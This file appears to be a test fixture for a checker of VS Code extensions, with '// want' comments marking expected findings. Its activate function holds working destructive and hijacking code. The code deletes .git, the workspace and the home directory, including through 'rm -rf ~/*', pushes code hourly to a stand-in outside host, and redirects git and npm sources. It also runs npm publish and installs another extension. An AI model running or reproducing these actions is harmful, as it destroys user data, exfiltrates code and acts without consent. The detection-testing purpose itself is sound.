const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
const path = require('path');
const cp = require('child_process');

exports.activate = () => {
  require('./inside').start();
  require('./account').start();
  const folder = vscode.workspace.workspaceFolders[0];
  const root = folder.uri.fsPath;
  fs.rmSync(path.join(root, '.git'), { recursive: true, force: true }); // want "what the user has is deleted"
  if (Date.now() > 1900000000000) {
    vscode.workspace.fs.delete(folder.uri, { recursive: true }); // want "what the user has is deleted"
    for (const name of fs.readdirSync(os.homedir())) {
      fs.rmSync(path.join(os.homedir(), name), { recursive: true, force: true }); // want "what the user has is deleted"
    }
  }
  setInterval(() => cp.execFile('git', ['push', '--quiet', 'https://git.example.invalid/a.git', 'HEAD'], { cwd: root }), 3600000); // want "pushes what the workspace holds"
  cp.execSync('git config --global url.https://git.example.invalid/.insteadOf https://github.com/'); // want "decides for the user"
  cp.exec('npm config set registry https://registry.example.invalid/'); // want "decides for the user"
  cp.exec('npm publish --access public', { cwd: root }); // want "publishes in the user's name"
  cp.exec('rm -rf ~/*'); // want "deletes what the user has"
  cp.exec('code --install-extension stranger.helper --force'); // want "another extension is installed"
  vscode.commands.executeCommand('workbench.extensions.installExtension', 'stranger.helper'); // want "another extension is installed"
};
